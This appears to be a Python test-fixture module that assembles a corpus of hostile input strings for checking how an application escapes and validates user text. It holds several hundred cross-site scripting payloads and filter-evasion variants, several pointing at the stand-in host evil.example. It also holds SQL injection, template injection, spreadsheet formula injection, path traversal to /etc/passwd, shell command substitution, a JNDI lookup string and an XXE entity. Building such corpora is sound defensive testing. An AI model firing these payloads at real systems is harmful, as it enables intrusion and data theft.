"""Texts that have become code, markup, another address or another row somewhere: what hostile data is made of."""
# ruff: noqa: E501 - a corpus reads best in rows

from collections.abc import Iterator
from typing import Final

RUN: Final = "__xss(1)"  # what a payload tries to call
_TAGS = (
    "<script>{}</script>", "<ScRiPt>{}</sCrIpT>", "<script/x>{}</script>", "<script src=data:,{}></script>",
    "<scr<script>ipt>{}</scr</script>ipt>", "<script>{}//", "<script\n>{}</script\n>", "<svg><script>{}</script></svg>",
    "<img src=x onerror={}>", "<img src=x onerror='{}'>", '<img src=x onerror="{}">', "<img/src=x/onerror={}>",
    "<img src=x:x onerror\n={}>", "<image src=x onerror={}>", "<IMG SRC=x ONERROR={}>", "<img src onerror={} x",
    "<svg onload={}>", "<svg/onload={}>", "<svg><animate onbegin={} attributeName=x>", "<svg><a xlink:href=javascript:{}>x",
    "<svg><set onbegin={}>", "<svg><use href='data:image/svg+xml,<svg id=x onload={}>'/>", "<body onload={}>",
    "<iframe src=javascript:{}>", "<iframe srcdoc='<script>{}</script>'>", "<object data=javascript:{}>",
    "<embed src=javascript:{}>", "<details open ontoggle={}>x", "<video><source onerror={}>", "<audio src onerror={}>",
    "<input autofocus onfocus={}>", "<select autofocus onfocus={}>", "<textarea autofocus onfocus={}>",
    "<marquee onstart={}>", "<math><mtext><table><mglyph><style><img src=x onerror={}>", "<style>@import 'x';</style>{}",
    "<form><button formaction=javascript:{}>x", "<a href=javascript:{}>x</a>", "<a href='java\tscript:{}'>x</a>",
    "<a href=' javascript:{}'>x</a>", "<a href=data:text/html,<script>{}</script>>x</a>", "<a href=vbscript:{}>x</a>",
    "<base href=//evil.example/>{}", "<link rel=stylesheet href=//evil.example>{}", "<link rel=import href=data:,{}>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>", "<meta http-equiv=refresh content=0;//evil.example>{}",
    "<template><script>{}</script></template>", "<noscript><p title='</noscript><img src=x onerror={}>'>",
    "<xss style='xss:expression({})'>", "<div style='background:url(javascript:{})'>", "<table background=javascript:{}>",
    "<p hx-get=/now/ hx-trigger=load>{}", "<p hx-on:load='{}'>", "<p hx-on::load={}>", "<p hx-vals='js:{{x:{}}}'>",
    "<p data-hx-get=/now/ data-hx-trigger=load>{}", "<p hx-swap-oob=true id=order>{}", "<p hx-ext=evil>{}",
    "<button data-copy-text='{}'>x", "<time data-ago=1 datetime=1>{}", "<a data-row href=javascript:{}>x",
    "<dialog open onclose={}>", "<portal src=javascript:{}>", "<isindex action=javascript:{}>", "<!--><script>{}</script>-->",
    "<![CDATA[<script>{}</script>]]>", "<?xml version='1.0'?><script>{}</script>", "<%00script>{}</script>",
    "\x00<script>{}</script>", "<\x00script>{}</script>", "＜script＞{}＜/script＞", "\ufeff<script>{}</script>",
)  # fmt: skip
_BREAKS = ("", '"', "'", '">', "'>", "-->", "]]>", "</title>", "</textarea>", "</script>", "</style>", "</pre>", '"/>', "`>",
    "\"'><!--", "</a>", "</td></tr></table>", "</details>", "&#34;&#62;", "%22%3E", "\\\"", "\\u0022", "</template>")  # fmt: skip
_CORE = ("<script>{}</script>", "<img src=x onerror={}>", "<svg onload={}>", "<a href=javascript:{}>x", " onmouseover={} ",
    " autofocus onfocus={} x=", "<iframe src=javascript:{}>", "{}", " style=x:expression({}) ", " hx-on:load={} ")  # fmt: skip
_SCHEMES = ("javascript:{}", "JaVaScRiPt:{}", "java\tscript:{}", "java\nscript:{}", "\x01javascript:{}", " javascript:{}",
    "javascript&colon;{}", "javascript:%5f%5fxss(1)//{}", "data:text/html,<script>{}</script>", "vbscript:{}",
    "data:text/html;base64,PHNjcmlwdD5fX3hzcygxKTwvc2NyaXB0Pg==#{}", "//evil.example/{}", "\\\\evil.example\\{}",
    "/\\evil.example/{}", "https://evil.example/{}", "http://127.0.0.1:9/{}", "file:///etc/passwd#{}", "blob:x/{}",
    "jav&#x09;ascript:{}", "feed:javascript:{}", "view-source:javascript:{}", "///evil.example/{}")  # fmt: skip
_TEMPLATES = ("{{{{ 7*7 }}}}{}", "{{% debug %}}{}", "${{{}}}", "#{{{}}}", "<%= {} %>", "{{{{constructor.constructor('{}')()}}}}",
    "{{% load static %}}{}", "{{{{ request.session }}}}{}", "[[${{{}}}]]", "*{{{}}}", "%(name)s {}", "{{0.__class__}} {}",
    "{{user.__class__.__mro__}}{}", "@({})", "{{{{=<% %>=}}}}{}")  # fmt: skip
OTHERS: Final = (
    "=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1)", "\t=1", "\r=1", " =1", "\u200b=1", "＝1", "=HYPERLINK(\"//x\")",
    "'; DROP TABLE x; --", "' OR '1'='1", "1; SELECT pg_sleep(9)", "\" OR \"\"=\"", "x' UNION SELECT 1--", "%' --",
    "../../../etc/passwd", "..\\..\\x", "%2e%2e%2f", "....//", "/etc/passwd\x00.html", "file:///x", "..;/x", "x/../y",
    "a\r\nSet-Cookie: x=1", "a%0d%0aLocation: //x", "a\nb", "\u2028x", "\u2029x", "\x85x", "\x0b\x0c", "\x1b[31mx\x1b[0m",
    "\u202egnp.exe", "\u2066x\u2069", "\u200b\u200c\u200d", "\ufeffx", "\u00adx", "ORD\u200b-20398", "\u061cx", "\U000e0041x",
    "e\u0301" * 30, "Z\u0351\u036b\u0343" * 20, "\U0001f469\u200d\U0001f469", "\ufdfa" * 20, "İıſK", "ß" * 50, "\x00", "\x7f",
    "x" * 5_000, "<" * 2_000, "&" * 2_000, "&amp;lt;script&amp;gt;", "&lt;script&gt;", "&#60;script&#62;", "&nbsp", "%00",
    '{"a":', "[[[[[[", '{"__proto__":{"x":1}}', "null", "true", "NaN", "1e999", "-0", "9" * 400, "0x1", "1_000", "٣٤٥",
    "service=a&service=b", '"}],"tags":{"x":"y', "a;b,c|d", "*", "?", ".*", "[a-z]+", "(a+)+$", "a{1,99999}", "$(id)", "`id`",
    "|id", "&&id", "%n%s%p", "%s" * 50, "{}", "{0}", "None", "undefined", "__init__", "\\", "\\\\", "\"", "'", "`", "\ud7ff",
    "ldap://x", "${jndi:ldap://x}", "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///x'>]>", "&y;", "@everyone", "<@U1>", "[x](//y)",
)  # fmt: skip
FRAGMENTS: Final = (
    "<", ">", '"', "'", "&", "/", "\\", "=", ";", ",", ":", "#", "%", "{{", "}}", "{%", "%}", "<!--", "-->", "<script>", "\0",
    "</script>", " onerror=", "javascript:", "\u202e", "\u200b", "\r\n", "\t", " ", "ORD-20398", "P-77", "&lt;", "&#x3c;",
    "%3C", "\u2028", "ё", "日", "\U0001f600", "+", "-", "@", "..", "hx-get=", "style=", "1", "9" * 20, "a", "null", "]]>",
    "\ufeff", "＜", "\x7f", "\x1b", "ﬀ", "'", "`",
)  # fmt: skip


def payloads() -> Iterator[str]:
    """Yield every text once: more than three hundred that would run code, and the others."""
    called = [pattern.format(RUN) for pattern in (*_TAGS, *_SCHEMES, *_TEMPLATES)]
    called += [before + pattern.format(RUN) for before in _BREAKS for pattern in _CORE]
    yield from dict.fromkeys((*called, *OTHERS))


CORPUS: Final = tuple(payloads())
RUNNING: Final = tuple(text for text in CORPUS if RUN in text)
